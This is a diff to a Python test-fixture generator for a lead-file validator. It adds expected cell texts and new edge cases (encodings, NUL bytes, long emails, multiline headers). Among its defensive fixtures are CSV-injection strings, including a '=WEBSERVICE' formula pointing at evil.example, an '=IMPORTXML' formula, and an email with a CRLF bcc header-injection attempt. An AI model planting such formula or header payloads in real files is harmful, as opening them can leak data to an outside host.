@@ -57,8 +57,8 @@ class Expect:
 
     `fatal`: the one stderr line, with "{path}" for the file's path (exit 2).
     Otherwise `problems` is the exact list of (row, column, message) it reports, and
-    `rows`/`valid` the counts. `formula_text` lists cell texts that must come back from
-    the plan workbook as text, never as formulas.
+    `rows`/`valid` the counts. `plan_text` lists cell texts the plan workbook must hold
+    exactly (as text: formula-like text never becomes a formula).
     """
 
     name: str
@@ -68,7 +68,7 @@ class Expect:
     problems: list[tuple[int, str | None, str]] = field(default_factory=list)
     rows: int | None = None
     valid: int | None = None
-    formula_text: list[str] = field(default_factory=list)
+    plan_text: list[str] = field(default_factory=list)
     reproducible: bool = True
     big: bool = False  # only meaningful at full size (slow): a time and memory bound
 
@@ -411,7 +411,8 @@ def mixed_encodings(out: Path, s: Sizes) -> Expect:
     cp1252 = "Zoë,zoe@example.org,Köln\r\nRenée,renee@example.org,Besançon – Nord\r\n".encode("cp1252")
     (out / "mixed-encodings.csv").write_bytes(utf8 + cp1252)
     return Expect("mixed-encodings.csv", "UTF-8 rows followed by Windows-1252 rows", 0,
-                  rows=3, valid=3)
+                  rows=3, valid=3, plan_text=["José", "São Paulo", "Zoë", "Köln", "Renée",
+                                              "Besançon – Nord"])
 
 
 @case
@@ -419,7 +420,7 @@ def nul_bytes(out: Path, s: Sizes) -> Expect:
     (out / "nul-bytes.csv").write_bytes(
         b"First_Name,Email_ID\r\nA\x00nn,ann@exa\x00mple.org\r\n\x00\x00,\x00\r\nBob,bob@example.org\x00\r\n")
     return Expect("nul-bytes.csv", "NUL bytes inside cells and a row of only NULs", 0,
-                  rows=2, valid=2)
+                  rows=2, valid=2, plan_text=["Ann", "ann@example.org", "bob@example.org"])
 
 
 @case
@@ -427,7 +428,7 @@ def utf16_nul(out: Path, s: Sizes) -> Expect:
     text = "First_Name\tEmail_ID\r\nÅsa\tasa@example.org\r\n"
     (out / "unicode-text.txt").write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))
     return Expect("unicode-text.txt", "Excel's 'Unicode Text' export (UTF-16, tabs)", 0,
-                  rows=1, valid=1)
+                  rows=1, valid=1, plan_text=["Åsa"])
 
 
 # --- formulas and formula-like text -------------------------------------------------------------
@@ -451,7 +452,7 @@ def formula_text_csv(out: Path, s: Sizes) -> Expect:
     write_csv(out / "formula-text.csv", rows)
     return Expect("formula-text.csv", "cells that start with = + - @ (CSV injection)", 0,
                   rows=len(FORMULA_TEXT), valid=len(FORMULA_TEXT),
-                  formula_text=[t.strip() for t in FORMULA_TEXT])
+                  plan_text=[t.strip() for t in FORMULA_TEXT])
 
 
 @case
@@ -470,7 +471,7 @@ def formulas_xlsx(out: Path, s: Sizes) -> Expect:
     book.close()
     normalise_zip(path)
     return Expect("formulas.xlsx", "real formulas (cached values used) and formula text", 0,
-                  rows=2, valid=2, formula_text=["Ann Lee", "=1+2", '=WEBSERVICE("http://evil.example")'])
+                  rows=2, valid=2, plan_text=["Ann Lee", "=1+2", '=WEBSERVICE("http://evil.example")'])
 
 
 # --- headers: duplicates, merged cells, hidden first sheet --------------------------------------
@@ -523,7 +524,8 @@ def hidden_first_sheet(out: Path, s: Sizes) -> Expect:
         "Lookup": [["Code", "Value"], ["x", "=1"]],
         "Leads": [["First_Name", "Email_ID"], ["Ann", "ann@example.org"]],
     }, hidden=["Lookup"])
-    return Expect("hidden-first.xlsx", "a hidden first sheet before the leads", 0, rows=1, valid=1)
+    return Expect("hidden-first.xlsx", "a hidden first sheet before the leads", 0, rows=1, valid=1,
+                  plan_text=["Ann", "ann@example.org"])
 
 
 # --- emails: Unicode and injection attempts ---------------------------------------------------------
@@ -540,7 +542,7 @@ def unicode_emails(out: Path, s: Sizes) -> Expect:
         ["Fullwidth", "ann＠example.org"],
     ])
     return Expect("unicode-emails.csv", "internationalised addresses and lookalike characters",
-                  1, problems=[
+                  1, plan_text=["josé@exämple.com", "用户@例子.广告", "иван@пример.рф"], problems=[
                       (5, "Email_ID", 'invalid email "ze\\u200bro@example.org": character not allowed: \\u200b'),
                       (6, "Email_ID", 'invalid email "ann＠example.org": no @'),
                   ], rows=5, valid=3)
@@ -577,7 +579,7 @@ def injection_emails(out: Path, s: Sizes) -> Expect:
                        "character not allowed: ( ) < >"),
                       (7, "Email_ID", 'invalid email "mallory@example.org%0d%0abcc:x@example.net": '
                        "more than one @"),
-                  ], rows=8, valid=2, formula_text=['=IMPORTXML("x")'])
+                  ], rows=8, valid=2, plan_text=['=IMPORTXML("x")'])
 
 
 # --- size: a million rows, a huge cell ----------------------------------------------------------
@@ -590,7 +592,7 @@ def million_rows(out: Path, s: Sizes) -> Expect:
         fh.write("First_Name,Last_Name,Email_ID,Lead Company,City\r\n")
         for i in range(n):
             fh.write(f"Lead{i},Surname{i % 977},lead{i}@example{i % 13}.org,Company {i % 5003},City {i % 101}\r\n")
-        fh.write(f"Again,Twice,lead0@example0.org,Co,City\r\n")
+        fh.write("Again,Twice,lead0@example0.org,Co,City\r\n")
     return Expect("million-rows.csv", f"{n:,} rows (and the first email again at the end)", 1,
                   problems=[(n + 2, "Email_ID", "duplicate of row 2 (same email)")],
                   rows=n + 1, valid=n, big=True)
@@ -610,6 +612,30 @@ def long_cell(out: Path, s: Sizes) -> Expect:
     return Expect("long-cell.csv", f"a cell of {size / 1e6:.0f} million characters", 1,
                   problems=[(3, "Notes", f"the cell holds {written:,} characters; a spreadsheet "
                              "cell holds at most 32,767")], rows=3, valid=2, big=True)
+
+
+@case
+def long_email(out: Path, s: Sizes) -> Expect:
+    email = "x" * 40_000 + "@example.org"
+    write_csv(out / "long-email.csv", [["First_Name", "Email_ID"], ["Ann", email],
+                                       ["Bob", "bob@example.org"]])
+    return Expect("long-email.csv", "a 40,000-character email: quoted in the message, cut short",
+                  1, problems=[
+                      (2, "Email_ID", "the cell holds 40,012 characters; a spreadsheet cell "
+                       "holds at most 32,767"),
+                      (2, "Email_ID", f'invalid email "{"x" * 300}…" (40,012 characters): '
+                       "longer than 254 characters"),
+                  ], rows=2, valid=1)
+
+
+@case
+def multiline_header(out: Path, s: Sizes) -> Expect:
+    write_openpyxl(out / "multiline-header.xlsx", {"Leads": [
+        ["First\nName", "E-mail\naddress"], ["Ann", "ann@@example.org"], ["Bob", "bob@example.org"],
+    ]})
+    return Expect("multiline-header.xlsx", "header cells with line breaks (Alt+Enter)", 1,
+                  problems=[(2, "E-mail address", 'invalid email "ann@@example.org": more than one @')],
+                  rows=2, valid=1)
 
 
 def generate(out: Path, sizes: Sizes = QUICK) -> list[Expect]:
